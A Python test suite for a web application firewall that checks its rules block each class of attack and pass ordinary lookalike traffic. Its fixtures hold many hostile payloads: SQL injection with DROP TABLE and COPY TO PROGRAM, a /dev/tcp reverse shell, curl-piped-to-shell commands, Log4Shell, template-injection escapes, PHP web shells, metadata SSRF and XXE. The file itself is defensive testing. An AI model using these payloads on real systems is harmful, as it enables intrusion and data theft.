"""
The shipped rules, class by class: attacks of each class are blocked at
paranoia 1 and classified as that class; requests that look like them but are
ordinary traffic are not blocked.  The rules alone are tested (no detectors),
so these hold whether or not the SQLi/XSS detectors are installed.
"""

from __future__ import annotations

import base64
from urllib.parse import quote
from uuid import uuid4

from twisted.trial.unittest import SynchronousTestCase

from veil.waf.engine import Engine
from veil.waf.policy import SitePolicy
from veil.waf.request import Request

_ENGINE: list[Engine] = []


def engine() -> Engine:
    """The package's rules without detectors, compiled once for this module."""
    if not _ENGINE:
        _ENGINE.append(Engine(detectors={}))
    return _ENGINE[0]


POLICY = SitePolicy(uuid4())
BROWSER = [(b"Host", b"shop.test"), (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64)"),
           (b"Accept", b"text/html,*/*;q=0.8")]


def query(value: str) -> Request:
    return Request(b"GET", b"/search?q=" + quote(value, safe="").encode(), BROWSER)


def header(name: str, value: str) -> Request:
    return Request(b"GET", b"/", BROWSER + [(name.encode(), value.encode())])


def form(**fields: str) -> Request:
    body = "&".join(f"{k}={quote(v, safe='')}" for k, v in fields.items()).encode()
    return Request(b"POST", b"/submit", BROWSER + [
        (b"Content-Type", b"application/x-www-form-urlencoded")], body)


def json_body(text: str) -> Request:
    return Request(b"POST", b"/api", BROWSER + [(b"Content-Type", b"application/json")],
                   text.encode())


def xml_body(text: str) -> Request:
    return Request(b"POST", b"/soap", BROWSER + [(b"Content-Type", b"application/xml")],
                   text.encode())


def upload(filename: str, content: str) -> Request:
    body = (f'--b\r\nContent-Disposition: form-data; name="f"; filename="{filename}"\r\n\r\n'
            f"{content}\r\n--b--\r\n").encode()
    return Request(b"POST", b"/upload", BROWSER + [
        (b"Content-Type", b"multipart/form-data; boundary=b")], body)


class ClassCase(SynchronousTestCase):
    """Base: helpers that check a verdict."""

    def blocked(self, request: Request, attack_class: str) -> None:
        verdict = engine().inspect(request, POLICY)
        self.assertTrue(verdict.blocked, f"not blocked: {request.uri} {request.body[:80]!r}"
                        f" -> {verdict.score} {[m.rule_id for m in verdict.matches]}")
        classes = {m.attack_class for m in verdict.matches}
        self.assertIn(attack_class, classes, request.uri)

    def passes(self, request: Request) -> None:
        verdict = engine().inspect(request, POLICY)
        self.assertFalse(verdict.blocked, f"blocked: {request.uri} {request.body[:80]!r}"
                         f" -> {[(m.rule_id, m.target) for m in verdict.matches]}")


class SQLiTests(ClassCase):
    """SQL injection."""

    def test_attacks(self) -> None:
        """Tautologies, UNION, stacked queries, time delays, schema probing, comment termination."""
        for payload in ("1' OR '1'='1", "1 OR 1=1", "-1 UNION ALL SELECT username,password FROM users",
                        "x'; DROP TABLE users;--", "1 AND SLEEP(5)", "admin'--",
                        "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64--",
                        "' UNION/**/SELECT/**/1,2,3--", "1;WAITFOR DELAY '0:0:5'--"):
            self.blocked(query(payload), "sqli")
        self.blocked(json_body('{"id": "1\' or 1=1--"}'), "sqli")

    def test_expression_values(self) -> None:
        """A value or name that opens with a SQL function call, a login closed with ';, MySQL's 1.e."""
        for payload in ("substr(password,1,1)", "concat(0x3a,user())", "md5(", "Left(", "trim()",
                        "admin@example.org';", "bob\";", "1.e(ascii(user()))", "0.e.tables",
                        "select pg_sleep"):
            self.blocked(query(payload), "sqli")
        self.blocked(Request(b"POST", b"/post", BROWSER + [
            (b"Content-Type", b"application/x-www-form-urlencoded")], b"Compress%20%28"), "sqli")

    def test_copy_program(self) -> None:
        """A stacked PostgreSQL COPY that runs a command, of a table or of a query, however spaced."""
        for payload in ("1'; COPY (SELECT '') TO PROGRAM 'curl x.example|sh'--",
                        "x'; copy cmd_exec from program 'id'--", "1;COPY t(c) FROM PROGRAM $$id$$",
                        "1;COPY (SELECT 1)TO PROGRAM 'id'", "1;COPY BINARY t FROM PROGRAM 'id'",
                        "1;COPY\"t\"FROM PROGRAM 'id'", "x';COPY (SELECT ';')TO PROGRAM 'id'--",
                        "1;COPY/**/t/**/FROM/**/PROGRAM/**/'id'"):
            self.blocked(query(payload), "sqli")
        for text in ("please copy the files to the program folder",
                     "Copy this text to the program 'Notepad' and save it",
                     "How do I copy data from program 'Excel' into Word?",
                     "copy text from program \"Word\" and paste it"):
            self.passes(query(text))

    def test_expression_lookalikes(self) -> None:
        """English words before a parenthesis, code that ends in ';, versions and decimals."""
        for text in ("Left (driver side)", "Trim (optional)", "Upper (3rd floor)", "count (approx.)",
                     "x = 'a';", "Version 1.e2 notes", "1.5e3 items", "md5 checksum of the file"):
            self.passes(query(text))

    def test_lookalikes(self) -> None:
        """Prose with SQL words, names with quotes, inch marks."""
        for text in ("select the best union of colors", "O'Reilly", "Tom & Jerry", "drop earrings",
                     "how to update my order?", 'necklace 16" or 18"', "order by price"):
            self.passes(query(text))


class XSSTests(ClassCase):
    """Cross-site scripting."""

    def test_attacks(self) -> None:
        """Script elements, handlers, script URLs, encoded and obfuscated forms."""
        for payload in ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
                        "<svg/onload=alert(document.domain)>", "javascript:alert(1)//",
                        "&lt;script&gt;alert(1)&lt;/script&gt;", "<iframe src=javascript:alert(1)>",
                        "';alert(String.fromCharCode(88,83,83))//", "ja\tvascript:alert(1)"):
            self.blocked(query(payload), "xss")
        encoded = base64.b64encode(b"<script>alert(1)</script>").decode()
        self.blocked(header("X-Data", encoded), "xss")

    def test_high_bit_markup(self) -> None:
        """Markup with the high bit set (\\xbcscript\\xbe), which 7-bit decoders read as <script>."""
        self.blocked(query("\\xbcscript\\xbealert(1)\\xbc/script\\xbe"), "xss")
        self.blocked(query("\u00bcscript\u00bealert(1)\u00bc/script\u00be"), "xss")
        self.passes(query("Add \u00bc cup of sugar and \u00be cup of flour"))

    def test_lookalikes(self) -> None:
        """Rich-text HTML, JSX, markdown, prose about JavaScript."""
        self.passes(form(content='<p>Read the <a href="https://example.org/docs">docs</a> &amp; '
                         '<img src="/a.png" alt="x"></p>'))
        self.passes(form(raw="```jsx\n<button onClick={save}>Save</button>\n```"))
        self.passes(query("JavaScript: Basics of JavaScript Language"))
        self.passes(query("if a < b and c > d"))


class TraversalTests(ClassCase):
    """Path traversal and local file inclusion."""

    def test_attacks(self) -> None:
        """Dot segments in the path and in values, encoded forms, system files."""
        self.blocked(Request(b"GET", b"/static/../../etc/passwd", BROWSER), "lfi")
        self.blocked(Request(b"GET", b"/download?file=..%2f..%2f..%2fetc%2fshadow", BROWSER), "lfi")
        self.blocked(Request(b"GET", b"/x/%c0%ae%c0%ae/%c0%ae%c0%ae/win.ini", BROWSER), "lfi")
        self.blocked(query("....//....//boot.ini"), "lfi")
        self.blocked(query("/proc/self/environ"), "lfi")

    def test_hex_separators(self) -> None:
        """Dot segments with the slash written as a hexadecimal literal (..0x2f)."""
        self.blocked(query("..0x2f..0x2f..0x2fetc0x2fgroup"), "lfi")
        self.blocked(query("..0x5c..0x5cwindows0x5cwin.ini"), "lfi")

    def test_lookalikes(self) -> None:
        """Relative links in HTML, ellipses, a path in prose."""
        self.passes(form(content='<a href="../about.html">About us</a>'))
        self.passes(query("wait... what?"))
        self.passes(query("the file is in my documents folder"))

    def test_windows_folders(self) -> None:
        """Ordinary Windows folders (user profiles, Program Files) are not system files."""
        self.passes(json_body('{"path": "C:\\\\Program Files\\\\Example\\\\app.exe"}'))
        self.passes(form(note="Saved it to C:\\Users\\anna\\AppData\\Roaming\\App\\settings.ini"))
        self.passes(query("C:/Users/Public/Documents"))
        self.blocked(query("C:\\Windows\\System32\\drivers\\etc\\hosts"), "lfi")


class RemoteInclusionTests(ClassCase):
    """Remote file inclusion."""

    def test_attacks(self) -> None:
        """A URL cut with ?, an include parameter given a URL."""
        self.blocked(query("http://evil.example/shell.txt?"), "rfi")
        self.blocked(Request(b"GET", b"/index.php?page=1&include=http://evil.example/x", BROWSER),
                     "rfi")

    def test_scheme_less(self) -> None:
        """A protocol-relative URL cut with ?, a UNC path to a host, a # after a script name."""
        self.blocked(query("//files.evil.example/x.txt?"), "rfi")
        self.blocked(query("\\\\198.51.100.7\\share\\evil.php"), "rfi")
        self.blocked(query("\\\\files.evil.example\\pub\\x.php"), "rfi")
        self.blocked(query("https://files.evil.example/inc.php#"), "rfi")

    def test_lookalikes(self) -> None:
        """Redirect and link parameters with ordinary URLs."""
        self.passes(Request(b"GET", b"/login?next=https%3A%2F%2Fshop.test%2Fcart&ref=https://t.co/x",
                            BROWSER))

    def test_page_parameter(self) -> None:
        """page= and view=, the include parameters of countless PHP sites, given a remote URL."""
        self.blocked(Request(b"GET", b"/index.php?page=http%3A%2F%2F203.0.113.40%2F&page=1",
                             BROWSER), "rfi")
        self.blocked(Request(b"GET", b"/?view=ftp://files.evil.example/x", BROWSER), "rfi")
        self.passes(Request(b"GET", b"/blog?page=2&pageSize=20&view=grid", BROWSER))

    def test_indexed_include_names(self) -> None:
        """An include-style parameter with an index given a URL (_CONF[path]=https://...)."""
        self.blocked(Request(b"GET", b"/plugins/x.php?_CONF[path]=https://files.evil.example/",
                             BROWSER), "rfi")
        self.passes(Request(b"GET", b"/map?path=%2Fdocs%2Fintro&layout=wide", BROWSER))

    def test_fragment_urls(self) -> None:
        """A JSON Schema URI and a link that end in # are not cut-off includes."""
        self.passes(json_body('{"$schema": "http://json-schema.org/draft-07/schema#", "type": "object"}'))
        self.passes(query("https://example.org/guide#"))


class CommandInjectionTests(ClassCase):
    """Unix and Windows command injection."""

    def test_unix(self) -> None:
        """Separators, substitution, quoting evasions, reverse shells."""
        for payload in (";cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "; c''at /e\"tc/pa\\sswd",
                        "&& curl http://x.example/s.sh | sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                        ";cat${IFS}/etc/passwd"):
            self.blocked(query(payload), "rce")

    def test_windows(self) -> None:
        """cmd.exe and PowerShell."""
        for payload in ("& dir c:\\", "| type C:\\boot.ini", "powershell -enc SQBFAFgA",
                        "cmd.exe /c whoami", "& w^ho^am^i"):
            self.blocked(query(payload), "rce")

    def test_more_commands(self) -> None:
        """Admin tools after a separator, an empty variable before a command, quoted names,
        PowerShell aliases, alias definitions, regedit."""
        for payload in ("time; ansible-playbook site.yml", ";visudo", "|$u wget x.example/a",
                        ";'rmt' --version", "; iwr http://x.example/a.ps1", "alias ls-al='ls -al'",
                        "alias -p x=id", "; regedit /E c:\\a.reg HKEY_CURRENT_USER\\Run",
                        ";chef-client -t 1.1.1.1"):
            self.blocked(query(payload), "rce")

    def test_more_commands_lookalikes(self) -> None:
        """Recipes and prose with words that name tools; aliases in prose and code spans."""
        for text in ("Season with pepper; salt to taste", "Kids loved it; puppet shows are great",
                     "Attitude & aptitude", "My alias is Bobby", "The alias Bob=Robert is on file",
                     "My .bashrc has `alias ll='ls -alF'` in it"):
            self.passes(form(message=text))

    def test_server_side_javascript(self) -> None:
        """Node.js globals reached through computed names, the module loader, RSC references."""
        for payload in ('process["env"]', "require[req.query.a]", 'console["info"](1)',
                        "console.log.call(this,1)", "#{require.main.constructor._load('fs')}",
                        '{"then":"$1:__proto__:then","_formData":{"get":"$3:constructor:constructor"}}'):
            self.blocked(query(payload), "rce")
        self.passes(query("see process[step 2] of the guide"))
        self.passes(json_body('{"price": "$1:00", "note": "constructor of the house"}'))

    def test_escapes_inside_base64(self) -> None:
        """Base64 of text hidden with JavaScript escapes, and Base64 behind escapes, both decoded."""
        hidden = r"_$$\u004e\u0044_FUNC$$_\u0066unction()"
        self.blocked(header("Cookie", "c=" + base64.b64encode(hidden.encode()).decode()), "rce")
        escaped = base64.b64encode(b"_$$ND_FUNC$$_function()").decode()
        self.blocked(header("Cookie", r"c=\u0058" + escaped[1:]), "rce")

    def test_line_break(self) -> None:
        """A command on a line of its own at the end of a value (x%0aid, %0awhoami, %0asleep 7)."""
        for payload in ("example.org\nid", "8.8.8.8\nwhoami", "a\r\nsleep 7", "x\nls -la /",
                        "host\n/usr/bin/uname -a"):
            self.blocked(query(payload), "rce")

    def test_line_break_lookalikes(self) -> None:
        """GraphQL field lists, lists of things with numbers, a code block followed by prose."""
        self.passes(json_body('{"query": "query {\\n  product(id: 5) {\\n    id\\n    name\\n  }\\n  env\\n}"}'))
        self.passes(form(message="Pets at home:\ndog 2\ncat 1"))
        self.passes(form(message="See you on Monday!\nPS bring the slides"))
        self.passes(form(message="Run this:\n\nls -la\n\nand paste the output here."))

    def test_lookalikes(self) -> None:
        """Command names as words, markdown code fences, a cat in prose."""
        for text in ("echo in the mirror", "bash away in the gym", "ls 300 lexus", "my cat; his dog",
                     "I'd go; id rather not"):
            self.passes(query(text))
        self.passes(form(raw="Try this:\n\n```python\nimport os\nprint(os.getcwd())\n```"))


class CodeInjectionTests(ClassCase):
    """PHP, Java, template injection."""

    def test_php(self) -> None:
        """PHP tags, dangerous calls, wrappers, serialized objects, script uploads."""
        self.blocked(query("<?php system($_GET['c']); ?>"), "php")
        self.blocked(query("php://filter/convert.base64-encode/resource=index.php"), "php")
        self.blocked(query('O:8:"stdClass":1:{s:1:"a";s:1:"b";}'), "php")
        upload = (b'--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n'
                  b"<?php eval($_POST[x]);\r\n--b--\r\n")
        self.blocked(Request(b"POST", b"/upload", BROWSER + [
            (b"Content-Type", b"multipart/form-data; boundary=b")], upload), "php")

    def test_php_handlers(self) -> None:
        """A planted .htaccess: directives that make uploads run as PHP."""
        self.blocked(upload("notes.txt", "AddType application/x-httpd-php .png\n"), "php")
        self.blocked(upload("x", "<FilesMatch \\.jpg>\nSetHandler application/x-httpd-php\n</FilesMatch>"),
                     "php")
        self.blocked(form(cfg="php_value auto_prepend_file /tmp/x.png"), "php")
        self.passes(form(note="Apache needs AddType image/svg+xml .svg for the icons"))

    def test_php_callables(self) -> None:
        """Functions called through strings and expressions, variable functions with comments."""
        for payload in ("('system')('id')", '"sys"."tem"(\'id\');', "(sy.(st).em)('uname');",
                        '"system"(ls);', "(['system'])[0]('uname');", "return\"system\"(xyz)",
                        "$__[$_[1]](7)", "$_aB[@5]/*x*/[@d] ()", "$a //x\n()"):
            self.blocked(query(payload), "php")
        for text in ('log("x");', "$(\"#id\").hide();", 'He said "hi" (twice)', "foo(bar);"):
            self.passes(query(text))

    def test_upload_name_evasions(self) -> None:
        """Script extensions after a space, with digits, .phpt; a PHP tag as a cookie name."""
        for name in ("photo. php", "x.php7", "dangerous.phpt", "shell. jsp", "wp-config. php"):
            self.blocked(upload(name, "x"), "php" if "jsp" not in name else "java")
        self.blocked(header("Cookie", "<?php phpinfo(); ?>=value"), "php")
        for name in ("Star Wars. war photos.jpg", "notes. ear infection.pdf", "report. final.docx"):
            self.passes(upload(name, "x"))

    def test_java(self) -> None:
        """Log4Shell and its obfuscations, OGNL, deserialization."""
        for value in ("${jndi:ldap://x.example/a}", "${${lower:j}${lower:n}di:ldap://x/a}",
                      "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
                      "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "rO0ABXNyABFqYXZh"):
            self.blocked(header("User-Agent", value), "java")

    def test_ssti(self) -> None:
        """Template probes and sandbox escapes."""
        for payload in ("{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
                        "${T(java.lang.Runtime).getRuntime().exec('id')}",
                        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'):
            request = query(payload)
            verdict = engine().inspect(request, POLICY)
            self.assertTrue(verdict.blocked, payload)

    def test_ssti_server_state(self) -> None:
        """Twig expressions that dump the request's server variables or the whole context."""
        self.blocked(query("{{app.request.server.all|join(',')}}"), "ssti")
        self.blocked(query("{{ _context|keys|join }}"), "ssti")
        self.blocked(query("{{ source('/etc/passwd') }}"), "ssti")
        self.passes(query("Hi {{ app.user.name }}, see {{ context }}"))

    def test_lookalikes(self) -> None:
        """Template syntax in ordinary text, Java in prose."""
        self.passes(query("Hello {{ user.name }}, welcome"))
        self.passes(query("I learned java last year"))
        self.passes(form(raw="`${name}` is a JS template literal"))


class RequestForgeryTests(ClassCase):
    """SSRF, XXE."""

    def test_ssrf(self) -> None:
        """Metadata addresses, odd schemes, disguised loopback."""
        for value in ("http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_x",
                      "file:///etc/passwd", "http://2130706433/admin", "http://metadata.google.internal/"):
            self.blocked(query(value), "ssrf")

    def test_ssrf_disguised_addresses(self) -> None:
        """Metadata and loopback in IPv6 spellings, IPv4 hosts as one number or octal/hex parts."""
        for value in ("http://[0:0:0:0:0:ffff:a9fe:a9fe]/", "http://[::a9fe:a9fe]/latest/",
                      "http://[0:0:0:0:0:ffff:7f00:1]:8080/", "http://017700000001/",
                      "http://3232235521/admin", "http://0xc0.0xa8.0.1/", "http://0300.0250.0.1/",
                      "http://10.65537/"):
            self.blocked(query(value), "ssrf")

    def test_ssrf_loopback_names(self) -> None:
        """Names that resolve to loopback without a scheme, a scheme without slashes."""
        for value in ("lvh.me/", "app.localtest.me:8080/admin", "http:127.0.0.1", "https:[::1]/"):
            self.blocked(query(value), "ssrf")
        self.passes(query("http://example.com/lvh.me/guide"))

    def test_ssrf_lookalikes(self) -> None:
        """Host names with digits, numbers in paths."""
        for value in ("https://2024.conference.example/", "https://release-20241203.example.org/",
                      "https://cdn.example.com/0x1f/logo.png", "https://10.example.net/a"):
            self.passes(query(value))

    def test_xxe_expansion_and_xslt(self) -> None:
        """Entities that nest other entities, XSLT reading properties or files."""
        self.blocked(xml_body('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "xx">'
                              '<!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'), "xxe")
        self.blocked(xml_body('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/'
                              'Transform"><xsl:template match="/"><xsl:value-of select="system-property'
                              '(\'xsl:vendor\')"/></xsl:template></xsl:stylesheet>'), "xxe")
        self.blocked(xml_body('<x xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:copy-of '
                              'select="document(\'/etc/passwd\')"/></x>'), "xxe")
        self.passes(xml_body('<?xml version="1.0"?><doc><title>Document (draft) &amp; notes</title>'
                             '<p>Tom &amp; Jerry &amp; friends</p></doc>'))

    def test_xinclude_namespace(self) -> None:
        """A body that declares the XInclude namespace, whatever the include points at."""
        self.blocked(xml_body('<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include '
                              'href="http://x.example/"/></a>'), "xxe")
        self.passes(xml_body('<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                             'xsi:noNamespaceSchemaLocation="a.xsd"><b>1</b></a>'))

    def test_xxe(self) -> None:
        """External entities in a body and in a parameter."""
        self.blocked(xml_body('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
                              '"http://x.example/e">]><r>&x;</r>'), "xxe")
        self.blocked(query('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://x.example/d.dtd"> %p;]>'), "xxe")

    def test_external_dtd_only(self) -> None:
        """A DOCTYPE that loads an external DTD, with no internal subset, in the body."""
        self.blocked(xml_body('<!DOCTYPE r SYSTEM "http://x.example/evil.dtd"><r>1</r>'), "xxe")
        self.blocked(xml_body('<?xml version="1.0"?>\n<!DOCTYPE r PUBLIC "-//A//EN" '
                              '"file:///etc/passwd"><r/>'), "xxe")
        # A second "<!DOCTYPE" inside the system literal; the same in UTF-16.
        self.blocked(xml_body('<!DOCTYPE r SYSTEM "http://x.example/e.dtd?<!DOCTYPE"><r>1</r>'),
                     "xxe")
        utf16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r SYSTEM "http://x.example/e.dtd"><r/>'
        self.blocked(Request(b"POST", b"/soap", BROWSER + [(b"Content-Type", b"application/xml")],
                             utf16.encode("utf-16")), "xxe")

    def test_lookalikes(self) -> None:
        """A loopback redirect URI (RFC 8252), a plain XML document, a link."""
        self.passes(Request(b"GET", b"/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F"
                            b"&client_id=abc", BROWSER))
        self.passes(xml_body('<?xml version="1.0"?><order id="1"><item>Tea</item></order>'))
        self.passes(query("https://example.org/about"))


class InjectionTests(ClassCase):
    """NoSQL, LDAP, CRLF, Shellshock."""

    def test_nosqli(self) -> None:
        """Operators in names and in JSON, JavaScript in $where."""
        self.blocked(Request(b"GET", b"/login?user=admin&password[$ne]=x", BROWSER), "nosqli")
        self.blocked(json_body('{"user": "admin", "password": {"$gt": ""}}'), "nosqli")
        self.blocked(query("'; return true; var x='"), "nosqli")

    def test_nosqli_return(self) -> None:
        """A JavaScript return statement that ends a $where string early with a comparison."""
        for payload in ("'; return '' == '", "x'; return a == a; var b='", "'; return !0; //"):
            self.blocked(query(payload), "nosqli")
        self.passes(form(code="const s = 'a'; return s;"))

    def test_ldapi(self) -> None:
        """Filters closed and opened."""
        self.blocked(query("*)(uid=*))(|(uid=*"), "ldapi")
        self.blocked(query("admin)(&(objectClass=*)"), "ldapi")

    def test_ldapi_nested_open(self) -> None:
        """A filter closed, then several opened before the operator ()((|attr=*)."""
        self.blocked(query("admin*)((|userPassword=*)"), "ldapi")
        self.passes(query("(a+b)(c+d) = ac + ad + bc + bd"))

    def test_crlf_forged_body(self) -> None:
        """An entity header, a blank line and markup: a response body forged through a field."""
        self.blocked(form(name="x\r\nContent-Type: text/html\r\n\r\n<h1>Sale</h1>"), "crlf")
        self.passes(form(message="Order details:\r\nContent: 2 shirts\r\n\r\nThanks!"))

    def test_shellshock_cookie_header(self) -> None:
        """A Cookie header that is only a function definition (read as cookie names)."""
        self.blocked(header("Cookie", "() { _; } >_[$($())] { id; }"), "shellshock")
        self.blocked(header("Cookie", "() { :; }; /usr/bin/id"), "shellshock")
        self.passes(header("Cookie", "theme=dark; layout=(wide); note={x}"))

    def test_crlf(self) -> None:
        """Response splitting and mail header injection."""
        self.blocked(Request(b"GET", b"/redirect?to=%0d%0aSet-Cookie:%20sid=evil", BROWSER), "crlf")
        self.blocked(form(subject="Hi\r\nBcc: victim@example.org"), "crlf")

    def test_shellshock(self) -> None:
        """A function definition in a header."""
        self.blocked(header("User-Agent", "() { :; }; /bin/bash -c 'id'"), "shellshock")

    def test_lookalikes(self) -> None:
        """A textarea with line breaks, a price in dollars, parentheses in prose."""
        self.passes(form(message="Hello,\r\n\r\nLocation: Paris office\r\nThanks"))
        self.passes(query("$5 off (members only)"))
        self.passes(form(note="see (a) and (b)"))


class ScannerAndProtocolTests(ClassCase):
    """Scanners and protocol anomalies."""

    def test_scanners(self) -> None:
        """Tool user agents and probes for secrets."""
        self.blocked(header("User-Agent", "sqlmap/1.7#stable (https://sqlmap.org)"), "scanner")
        for path in (b"/.git/config", b"/.env", b"/actuator/env", b"/backup.sql"):
            self.blocked(Request(b"GET", path, BROWSER), "scanner")

    def test_backup_and_deployment_probes(self) -> None:
        """Site backups and dumps, deployment and CI files near the top of the site."""
        for path in (b"/backup.tar.gz", b"/db.sql.gz", b"/www.zip", b"/old/site-backup.7z",
                     b"/docker-compose.yml", b"/app/Dockerfile", b"/terraform.tfstate",
                     b"/.github/workflows/deploy.yml", b"/config/master.key"):
            self.blocked(Request(b"GET", path, BROWSER), "scanner")

    def test_admin_tools(self) -> None:
        """
        A path of a database or server admin tool scores (rule 2013) without blocking on its
        own, because sites serve these tools; from a scanning tool it blocks.
        """
        for path in (b"/phpmyadmin/index.php", b"/manager/html", b"/adminer.php"):
            verdict = engine().inspect(Request(b"GET", path, BROWSER), POLICY)
            self.assertEqual(([m.rule_id for m in verdict.matches], verdict.blocked),
                             ([2013], False), path)
            self.blocked(Request(b"GET", path, [(b"User-Agent", b"Nikto/2.5.0")]), "scanner")
        self.passes(Request(b"GET", b"/admin/orders", BROWSER))

    def test_backup_lookalikes(self) -> None:
        """Release archives and files deep in a code-hosting site's tree."""
        for path in (b"/downloads/release-2.4.tar.gz", b"/team/repo/src/branch/main/Dockerfile",
                     b"/team/repo/raw/main/docker-compose.yml", b"/docs/docker-compose-guide"):
            self.passes(Request(b"GET", path, BROWSER))

    def test_protocol(self) -> None:
        """Odd methods, NUL bytes, overlong escapes, method overrides, smuggled requests."""
        self.blocked(Request(b"TRACE", b"/", BROWSER), "protocol")
        self.blocked(Request(b"GET", b"/x.php%00.jpg", BROWSER), "protocol")
        self.blocked(Request(b"GET", b"/?q=%u0027", BROWSER), "protocol")
        self.blocked(header("X-HTTP-Method-Override", "TRACE"), "protocol")
        self.blocked(Request(b"GET", b"/", BROWSER + [(b"Content-Length", b"5")], b"hello"),
                     "protocol")

    def test_parser_confusion(self) -> None:
        """Content types without a subtype or of no multipart kind, unknown charsets, a media type
        as a parameter, line breaks in the path, chunked GETs, proxy socket targets, cookie
        attributes as cookies."""
        def post(content_type: bytes, body: bytes = b"a=1") -> Request:
            return Request(b"POST", b"/submit", BROWSER + [(b"Content-Type", content_type)], body)
        for request in (post(b"json", b'{"a": 1}'), post(b"multipart/; boundary=x"),
                        post(b"multipart/foo; boundary=x"), post(b"application"),
                        post(b"application/x-www-form-urlencoded; charset=garbage"),
                        post(b'application/x-www-form-urlencoded; charset="utf-80"'),
                        post(b'application/x-www-form-urlencoded;boundary="application/json"'),
                        Request(b"GET", b"/foo%0abar", BROWSER),
                        Request(b"GET", b"/", BROWSER + [(b"Transfer-Encoding", b"chunked")],
                                b"3\r\nabc\r\n0\r\n\r\n"),
                        Request(b"GET", b"/?unix:/run/x.sock|http://backend.example/", BROWSER),
                        header("Cookie", "$Version=1; session=abc")):
            self.blocked(request, "protocol")

    def test_parser_confusion_lookalikes(self) -> None:
        """Ordinary content types and charsets, an encoded space in a path."""
        def post(content_type: bytes, body: bytes = b"a=1") -> Request:
            return Request(b"POST", b"/submit", BROWSER + [(b"Content-Type", content_type)], body)
        for content_type in (b"application/x-www-form-urlencoded; charset=UTF-8",
                             b"text/plain;charset=utf-8", b'application/json; charset="utf-8"',
                             b"application/x-www-form-urlencoded; charset=ISO-8859-1",
                             b"text/xml; charset=windows-1252", b"application/csp-report",
                             b"multipart/related; type=\"application/xop+xml\"; boundary=x"):
            self.passes(post(content_type))
        self.passes(Request(b"GET", b"/files/annual%20report%200a.pdf", BROWSER))

    def test_session_names(self) -> None:
        """Session identifiers of other platforms passed in a link from elsewhere."""
        for name in (b"phpsession", b"weblogicsession", b"session-id", b"jservsession"):
            self.blocked(Request(b"GET", b"/login?" + name + b"=abc123", BROWSER + [
                (b"Referer", b"https://elsewhere.example/")]), "protocol")
        self.passes(Request(b"GET", b"/assessment?sessions=3&obsessive=no", BROWSER + [
            (b"Referer", b"https://elsewhere.example/")]))

    def test_more_probes(self) -> None:
        """Redis dumps, private keys, editor backups before a path, files in hidden folders."""
        for path in (b"/dump.rdb", b"/etc/letsencrypt/live/example.org/privkey.pem",
                     b"/index.php~/foo", b"/.n8n/config", b"/.kiro/hooks/pre.sh"):
            verdict = engine().inspect(Request(b"GET", path, BROWSER), POLICY)
            self.assertTrue(verdict.blocked, path)
        for path in (b"/.well-known/security.txt", b"/static/app~1.js", b"/docs/config"):
            self.passes(Request(b"GET", path, BROWSER))

    def test_lookalikes(self) -> None:
        """Health checks, assets, WebDAV, an API client, .well-known."""
        for method, path in ((b"GET", b"/healthz"), (b"GET", b"/static/app.js?v=1.2"),
                             (b"PROPFIND", b"/remote.php/dav/files/anna/"),
                             (b"GET", b"/.well-known/openid-configuration"),
                             (b"GET", b"/actuator/health")):
            self.passes(Request(method, path, BROWSER))
        self.passes(Request(b"GET", b"/api/items", [(b"User-Agent", b"python-requests/2.32")]))

    def test_paranoia_adds(self) -> None:
        """Higher paranoia levels add rules (a browser without Accept scores at PL3)."""
        request = Request(b"GET", b"/", [(b"User-Agent", b"Mozilla/5.0")])
        low = engine().inspect(request, POLICY)
        high = engine().inspect(request, SitePolicy(uuid4(), paranoia=3))
        self.assertEqual(low.score, 0)
        self.assertIn(1042, high.rule_ids)
